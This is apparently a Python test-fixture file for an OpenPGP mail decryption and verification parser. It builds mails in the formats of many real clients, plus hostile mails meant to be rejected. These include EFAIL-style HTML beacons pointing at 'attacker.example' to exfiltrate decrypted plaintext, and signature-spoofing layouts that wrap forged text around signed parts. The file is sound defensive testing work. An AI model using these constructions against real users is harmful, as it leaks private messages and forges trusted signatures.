"""Mails as the programs of reporters and maintainers write them, by hand, around what GnuPG made; and hostile ones."""

from __future__ import annotations

import base64
from pathlib import Path

DATA = Path(__file__).resolve().parents[1] / "data" / "openpgp"


def load(name: str) -> str:
    return (DATA / name).read_bytes().decode("ascii").replace("\r\n", "\n")


MESSAGE, HIDDEN, OPAQUE, PASSPHRASE = map(load, ("message.asc", "message-hidden.asc", "opaque.asc", "passphrase.asc"))
SIGNATURE, TEXT_SIGNATURE, CLEARSIGNED, KEY = map(
    load, ("signature.asc", "signature-text.asc", "clearsigned.asc", "key.asc")
)
SIGNED_CONTENT = (DATA / "signed.txt").read_bytes()  # what both signatures are over
FINGERPRINT = "13D1199B659FAD28A7F4EAF62C59734999FF2DA3"
SUBKEY_ID = "25D62B8C7E7DDD5A"

HEAD = (
    "From: Rita <rita@research.example>\nTo: security@example.org\nSubject: ...\n"
    "Date: Mon, 23 Nov 2026 10:00:00 +0000\nMessage-ID: <a1@research.example>\nMIME-Version: 1.0\n"
)


def crlf(text: str) -> bytes:
    return text.encode().replace(b"\n", b"\r\n")


def mail(text: str) -> bytes:
    return crlf(HEAD + text)


def multipart(kind: str, *parts: str, preamble: str = "", epilogue: str = "") -> str:
    body = "".join(f"--b1\n{part}\n" for part in parts)
    return f'Content-Type: {kind}; boundary="b1"\n\n{preamble}{body}--b1--\n{epilogue}'


ENCRYPTED_KIND = 'multipart/encrypted; protocol="application/pgp-encrypted"'
SIGNED_KIND = 'multipart/signed; micalg=pgp-sha512; protocol="application/pgp-signature"'
CONTROL = "Content-Type: application/pgp-encrypted\n\nVersion: 1\n"
OCTETS = f"Content-Type: application/octet-stream\n\n{MESSAGE}"
SIGNATURE_PART = f"Content-Type: application/pgp-signature\n\n{SIGNATURE}"
SIGNED_PART = SIGNED_CONTENT.decode().replace("\r\n", "\n")


def encrypted(*parts: str, **around: str) -> bytes:
    return mail(multipart(ENCRYPTED_KIND, *(parts or (CONTROL, OCTETS)), **around))


def signed(*parts: str, kind: str = SIGNED_KIND, **around: str) -> bytes:
    return mail(multipart(kind, *(parts or (SIGNED_PART, SIGNATURE_PART)), **around))


def broken_armour() -> str:
    """As after a web form: no empty line behind the headers, blanks at both ends, every line doubled."""
    lines = MESSAGE.strip().split("\n")
    lines[1] = "Comment: sent from a form"
    return "\n\n".join(f" {line} " for line in lines) + "\n"


# Each must be decrypted: whole mails, one of a program each.
ENCRYPTED_BY = {
    "Thunderbird": encrypted(
        'Content-Type: application/pgp-encrypted; name="version.asc"\nContent-Description: PGP/MIME version '
        "identification\n\nVersion: 1\n",
        'Content-Type: application/octet-stream; name="encrypted.asc"\nContent-Description: OpenPGP encrypted message\n'
        f'Content-Disposition: inline; filename="encrypted.asc"\n\n{MESSAGE}',
        preamble="This is an OpenPGP/MIME encrypted message (RFC 4880 and 3156)\n",
    ),
    "Enigmail of old, lines ended by LF": mail(
        'Content-Type: multipart/encrypted;\n protocol="application/pgp-encrypted";\n boundary="dqH5vNw2"\n\n'
        "This is an OpenPGP/MIME encrypted message (RFC 2440 and 3156)\n--dqH5vNw2\n"
        f"Content-Type: application/pgp-encrypted\n\nVersion: 1\n\n--dqH5vNw2\n{OCTETS}\n--dqH5vNw2--\n"
    ).replace(b"\r\n", b"\n"),
    "GPG Suite": mail(
        'Content-Type: multipart/encrypted;\n\tboundary="Apple-Mail=_A3F1";\n\t'
        'protocol="application/pgp-encrypted"\n\nThis is an OpenPGP/MIME encrypted message\n'
        "--Apple-Mail=_A3F1\nContent-Transfer-Encoding: 7bit\nContent-Type: application/pgp-encrypted\n"
        "Content-Description: PGP/MIME Versions Identification\n\nVersion: 1\n\n--Apple-Mail=_A3F1\n"
        "Content-Transfer-Encoding: 7bit\nContent-Disposition: inline;\n\tfilename=encrypted.asc\n"
        "Content-Type: application/octet-stream;\n\tname=encrypted.asc\nContent-Description: OpenPGP encrypted message"
        f"\n\n{MESSAGE}\n--Apple-Mail=_A3F1--\n"
    ),
    "K-9 Mail": mail(
        f"Autocrypt: addr=rita@research.example; keydata=AAAA\n{multipart(ENCRYPTED_KIND, CONTROL, OCTETS)}"
    ),
    "Proton": encrypted(
        'Content-Type: application/pgp-encrypted; name="version.asc"\n\nVersion: 1',
        'Content-Type: application/octet-stream; name="encrypted.asc"\nContent-Disposition: inline; '
        f'filename="encrypted.asc"\n\n{MESSAGE}',
    ),
    "mutt": encrypted(
        "Content-Type: application/pgp-encrypted\nContent-Disposition: attachment\n\nVersion: 1\n",
        f'Content-Type: application/octet-stream\nContent-Disposition: attachment; filename="msg.asc"\n\n{MESSAGE}',
    ),
    "Outlook with Gpg4win": mail(
        f'X-Mailer: GpgOL\nContent-Type: {ENCRYPTED_KIND};\n\tboundary="=-=/rbi=-="\n\n'
        "--=-=/rbi=-=\nContent-Type: application/pgp-encrypted\nContent-Disposition: attachment;\n"
        ' filename="GnuPG_ident.txt"\n\nVersion: 1\n--=-=/rbi=-=\n'
        'Content-Type: application/octet-stream\nContent-Disposition: inline;\n filename="GnuPG_message.asc"\n\n'
        f"{MESSAGE}\n--=-=/rbi=-=--\n"
    ),
    "Schleuder": mail(
        "List-Id: <team.lists.example.org>\nX-Schleuder-Version: 4.0\nContent-Type: multipart/encrypted;\n"
        ' boundary="--==_mimepart_6";\n charset=UTF-8;\n protocol="application/pgp-encrypted"\n\n\n'
        "----==_mimepart_6\nContent-Type: application/pgp-encrypted;\n charset=UTF-8\nContent-Transfer-Encoding: 7bit"
        "\nContent-Description: PGP/MIME Versions Identification\n\nVersion: 1\n\n----==_mimepart_6\n"
        "Content-Type: application/octet-stream;\n charset=UTF-8;\n name=encrypted.asc\n"
        f"Content-Transfer-Encoding: 7bit\n\n{MESSAGE}\n----==_mimepart_6--\n"
    ),
    "Exchange": mail(
        multipart(
            "multipart/mixed",
            'Content-Type: text/plain; charset="us-ascii"\nContent-Transfer-Encoding: quoted-printable\n\n\n',
            'Content-Type: application/pgp-encrypted; name="PGPMIME version identification"\n'
            f"Content-Transfer-Encoding: base64\n\n{base64.b64encode(b'Version: 1').decode()}\n",
            'Content-Type: application/octet-stream; name="encrypted.asc"\nContent-Transfer-Encoding: base64\n\n'
            + base64.encodebytes(MESSAGE.encode()).decode(),
        )
    ),
    "Exchange with an empty HTML": mail(
        multipart("multipart/mixed", "Content-Type: text/html\n\n<html><body>&nbsp;</body></html>\n", CONTROL, OCTETS)
    ),
    "Exchange without a text": mail(multipart("multipart/mixed", CONTROL, OCTETS)),
    "Mailvelope": mail(f"Content-Type: text/plain; charset=utf-8\n\n{MESSAGE}"),
    "Mailvelope in webmail": mail(
        multipart(
            "multipart/alternative",
            f'Content-Type: text/plain; charset="UTF-8"\n\n{MESSAGE}',
            'Content-Type: text/html; charset="UTF-8"\n\n<div dir="ltr">'
            + "<br>\n".join(MESSAGE.strip().split("\n"))
            + "</div>\n",
        )
    ),
    "a web form": mail(f"Content-Type: text/plain; charset=utf-8\n\n\n{broken_armour()}\n\n"),
    "no Content-Type at all": crlf(f"From: rita@research.example\nSubject: x\n\n{MESSAGE}"),
    "base64 with no-break spaces": mail(
        "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
        + base64.encodebytes(("\u00a0\n" + MESSAGE.replace("-----\n", "-----\u00a0\n")).encode()).decode()
    ),
    "a list program that keeps one part": mail(multipart("multipart/mixed", f"Content-Type: text/plain\n\n{MESSAGE}")),
    "inline with the key attached": mail(
        multipart(
            "multipart/mixed",
            f"Content-Type: text/plain\n\n{MESSAGE}",
            f"Content-Type: application/pgp-keys\nContent-Disposition: attachment; filename=0x.asc\n\n{KEY}",
        )
    ),
}

BEACON = 'Content-Type: text/html\n\n<img src="http://attacker.example/'
NESTED = multipart(ENCRYPTED_KIND, CONTROL, OCTETS).replace("b1", "b2")
NESTED_SIGNED = multipart(SIGNED_KIND, SIGNED_PART, SIGNATURE_PART).replace("b1", "b2")
FIRED = "Content-Type: text/plain\n\nYou are fired!\n"

# None may be decrypted: the reason why not, and the mail.
NOT_DECRYPTED = {
    "EFAIL: HTML around": (
        "NOT_OUTERMOST",
        mail(multipart("multipart/mixed", BEACON, NESTED, 'Content-Type: text/html\n\n">\n')),
    ),
    "EFAIL: inline between HTML": (
        "AROUND",
        mail(multipart("multipart/mixed", BEACON, f"Content-Type: text/plain\n\n{MESSAGE}", BEACON)),
    ),
    "text above the encrypted part": ("NOT_OUTERMOST", mail(multipart("multipart/mixed", FIRED, NESTED))),
    "the encrypted part alone in a mixed": ("NOT_OUTERMOST", mail(multipart("multipart/mixed", NESTED))),
    "as a forwarded message": (
        "NOT_OUTERMOST",
        mail(multipart("multipart/mixed", FIRED, f"Content-Type: message/rfc822\n\n{HEAD}{NESTED}")),
    ),
    "a third part": ("SHAPE_ENCRYPTED", encrypted(CONTROL, OCTETS, FIRED)),
    "no control part": ("SHAPE_ENCRYPTED", encrypted(FIRED, OCTETS)),
    "another version": ("SHAPE_ENCRYPTED", encrypted(CONTROL.replace("1", "2"), OCTETS)),
    "text as the data": ("SHAPE_ENCRYPTED", encrypted(CONTROL, f"Content-Type: text/plain\n\n{MESSAGE}")),
    "no protocol": ("SHAPE_ENCRYPTED", mail(multipart("multipart/encrypted", CONTROL, OCTETS))),
    "text behind the last boundary": ("AROUND", encrypted(epilogue="unsubscribe here\n")),
    "parts behind the last boundary": ("AMBIGUOUS", encrypted(epilogue=f"--b1\n{FIRED}\n--b1--\n")),
    "cut off": ("AMBIGUOUS", encrypted().removesuffix(b"--b1--\r\n")),
    "two Content-Types": ("AMBIGUOUS", mail("Content-Type: text/plain\n" + multipart(ENCRYPTED_KIND, CONTROL, OCTETS))),
    "an encoded multipart": (
        "AMBIGUOUS",
        mail("Content-Transfer-Encoding: quoted-printable\n" + multipart(ENCRYPTED_KIND, CONTROL, OCTETS)),
    ),
    "a header in front that is none": ("AMBIGUOUS", b"\r\n" + encrypted()),
    "two blocks in the data": ("SEVERAL", encrypted(CONTROL, OCTETS + "\n" + MESSAGE)),
    "two encrypted parts": ("SEVERAL", mail(multipart("multipart/mixed", NESTED, NESTED.replace("b2", "b3")))),
    "two inline blocks": ("SEVERAL", mail(f"Content-Type: text/plain\n\n{MESSAGE}\n{MESSAGE}")),
    "text above an inline block": ("AROUND", mail(f"Content-Type: text/plain\n\nSee below.\n\n{MESSAGE}")),
    "text below an inline block": ("AROUND", mail(f"Content-Type: text/plain\n\n{MESSAGE}\n-- \nRita\n")),
    "an inline block beside a text": (
        "AROUND",
        mail(multipart("multipart/mixed", f"Content-Type: text/plain\n\n{MESSAGE}", FIRED)),
    ),
    "an inline block beside a picture": (
        "AROUND",
        mail(multipart("multipart/mixed", f"Content-Type: text/plain\n\n{MESSAGE}", "Content-Type: image/png\n\nx\n")),
    ),
    "HTML that says something else": (
        "AROUND",
        mail(
            multipart(
                "multipart/alternative",
                f"Content-Type: text/plain\n\n{MESSAGE}",
                "Content-Type: text/html\n\n<p>Hi</p>\n",
            )
        ),
    ),
    "HTML with another block": (
        "AROUND",
        mail(
            multipart(
                "multipart/alternative",
                f"Content-Type: text/plain\n\n{MESSAGE}",
                "Content-Type: text/html\n\n<pre>" + HIDDEN + "</pre>\n",
            )
        ),
    ),
    "hidden in a referenced part": (
        "AROUND",
        mail(multipart("multipart/related", BEACON, f"Content-ID: <t>\nContent-Type: text/plain\n\n{MESSAGE}")),
    ),
    "an encrypted file": (
        "ATTACHED",
        mail(
            multipart(
                "multipart/mixed",
                FIRED,
                f"Content-Disposition: attachment; filename=poc.py.asc\n\n{MESSAGE}",
            )
        ),
    ),
    "Exchange's form with a text": ("AROUND", mail(multipart("multipart/mixed", FIRED, CONTROL, OCTETS))),
    "Exchange's form with two texts": (
        "NOT_OUTERMOST",
        mail(multipart("multipart/mixed", FIRED, FIRED, CONTROL, OCTETS)),
    ),
    "signed only, in a PGP MESSAGE": ("NOT_ENCRYPTED", mail(f"Content-Type: text/plain\n\n{OPAQUE}")),
    "to a passphrase only": (
        "NO_RECIPIENT",
        encrypted(CONTROL, f"Content-Type: application/octet-stream\n\n{PASSPHRASE}"),
    ),
    "damaged armour": ("ARMOUR", encrypted(CONTROL, OCTETS.replace("=\n", "!\n").replace("\n=", "\n!="))),
    "S/MIME": (
        "SMIME",
        mail("Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\n\nMII\n"),
    ),
    "nothing": ("NONE", mail("Content-Type: text/plain\n\nHello\n")),
}

# Each must be verified, and over exactly SIGNED_CONTENT.
SIGNED_BY = {
    "Thunderbird": signed(
        SIGNED_PART,
        'Content-Type: application/pgp-signature; name="OpenPGP_signature.asc"\nContent-Description: OpenPGP digital '
        f'signature\nContent-Disposition: attachment; filename="OpenPGP_signature"\n\n{SIGNATURE}',
        preamble="This is an OpenPGP/MIME signed message (RFC 4880 and 3156)\n",
    ),
    "mutt, over text": signed(
        SIGNED_PART,
        'Content-Type: application/pgp-signature; name="signature.asc"\n\n' + TEXT_SIGNATURE,
        kind='multipart/signed; micalg=pgp-sha512;\n\tprotocol="application/pgp-signature"',
    ),
    "lines ended by LF": signed().replace(b"\r\n", b"\n"),
    "GPG Suite": signed(kind='multipart/signed;\n\tprotocol="application/pgp-signature";\n\tmicalg=PGP-SHA512'),
    "an encoded signature": signed(
        SIGNED_PART,
        "Content-Type: application/pgp-signature\nContent-Transfer-Encoding: base64\n\n"
        + base64.encodebytes(SIGNATURE.encode()).decode(),
    ),
}

NOT_VERIFIED = {
    "M1: text above a signed part": ("SIGNED_INSIDE", mail(multipart("multipart/mixed", FIRED, NESTED_SIGNED))),
    "M3: the signed part only referred to": (
        "SIGNED_INSIDE",
        mail(
            multipart(
                "multipart/related",
                'Content-Type: text/html\n\nYou are fired! <img src="cid:t">\n',
                f"Content-ID: <t>\n{NESTED_SIGNED}",
            )
        ),
    ),
    "M4: the signed part attached": (
        "SIGNED_INSIDE",
        mail(
            multipart(
                "multipart/mixed",
                FIRED,
                f"Content-Disposition: attachment\nContent-Type: message/rfc822\n\n{HEAD}{NESTED_SIGNED}",
            )
        ),
    ),
    "a signed part alone in a mixed": ("SIGNED_INSIDE", mail(multipart("multipart/mixed", NESTED_SIGNED))),
    "a signature as a mere file": (
        "SIGNED_INSIDE",
        mail(multipart("multipart/mixed", SIGNED_PART, SIGNATURE_PART)),
    ),
    "two signed parts": ("SHAPE_SIGNED", signed(FIRED, SIGNED_PART, SIGNATURE_PART)),
    "the signature first": ("SHAPE_SIGNED", signed(SIGNATURE_PART, SIGNED_PART)),
    "text as the signature": ("SHAPE_SIGNED", signed(SIGNED_PART, f"Content-Type: text/plain\n\n{SIGNATURE}")),
    "no micalg": ("SHAPE_SIGNED", signed(kind='multipart/signed; protocol="application/pgp-signature"')),
    "a micalg of S/MIME": ("SHAPE_SIGNED", signed(kind=SIGNED_KIND.replace("pgp-sha512", "sha-512"))),
    "another protocol": ("SHAPE_SIGNED", signed(kind=SIGNED_KIND.replace("pgp-signature", "x-signature"))),
    "text behind the last boundary": ("AROUND", signed(epilogue="You are fired!\n")),
    "two signatures in one part": ("SEVERAL", signed(SIGNED_PART, SIGNATURE_PART + TEXT_SIGNATURE)),
    "no signature in the part": ("ARMOUR", signed(SIGNED_PART, "Content-Type: application/pgp-signature\n\nx\n")),
    "open blanks": (
        "TRAILING_BLANKS",
        signed(SIGNED_PART.replace("=20\n", " \n"), "Content-Type: application/pgp-signature\n\n" + TEXT_SIGNATURE),
    ),
    "inline": ("CLEARSIGNED", mail(f"Content-Type: text/plain\n\n{CLEARSIGNED}")),
    "M2: inline below text": ("CLEARSIGNED", mail(f"Content-Type: text/plain\n\nYou are fired!\n\n{CLEARSIGNED}")),
    "two Content-Types": (
        "AMBIGUOUS",
        mail("Content-Type: text/html\n" + multipart(SIGNED_KIND, SIGNED_PART, SIGNATURE_PART)),
    ),
    "a boundary that the first part has too": (
        "SHAPE_SIGNED",
        signed("Content-Type: multipart/mixed; boundary=b1\n\n--b1\n" + FIRED, SIGNATURE_PART),
    ),
    "S/MIME": (
        "SMIME",
        mail(
            multipart(
                'multipart/signed; micalg=sha-256; protocol="application/pkcs7-signature"',
                FIRED,
                "Content-Type: application/pkcs7-signature\n\nMII\n",
            )
        ),
    ),
}
